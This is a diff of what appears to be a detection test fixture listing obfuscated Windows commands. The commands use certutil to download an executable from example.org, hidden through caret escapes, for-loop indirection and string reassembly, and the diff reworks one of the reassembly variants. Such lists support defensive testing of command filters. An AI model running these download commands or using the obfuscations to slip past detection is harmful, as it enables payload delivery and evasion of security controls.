@@ -37,7 +37,7 @@ FETCH = "certutil -urlcache -f https://example.org/p.exe p.exe"
         'for /f "tokens=2 delims=;" %i in ("a;certutil;b") do %i -urlcache -f https://example.org/p.exe p.exe',
         "for /f %%i in ('echo certutil') do %%i -urlcache -f https://example.org/p.exe p.exe",
         "for %i in (certutil) do %~i -urlcache -f https://example.org/p.exe p.exe",
-        "set s=tilucre&for %A in (4 6 5 0 3 0 1 2) do (set f=!f!!s:~%A,1!)&if %A==2 %f% -urlcache -f https://example.org/p.exe p.exe",
+        "set s=tilucre&for %A in (4 6 5 0 3 0 1 2)do set f=!f!!s:~%A,1!&%f% -urlcache -f https://example.org/p.exe p.exe",
         "if 1==1 (certutil -urlcache -f https://example.org/p.exe p.exe) else (ver)",
         "call :get https://example.org/p.exe p.exe\nexit /b\n:get\ncertutil -urlcache -f %1 %~2\ngoto :eof",
         "f^or %i in (p) d^o certutil -urlcache -f https://example.org/%i.exe %i.exe",
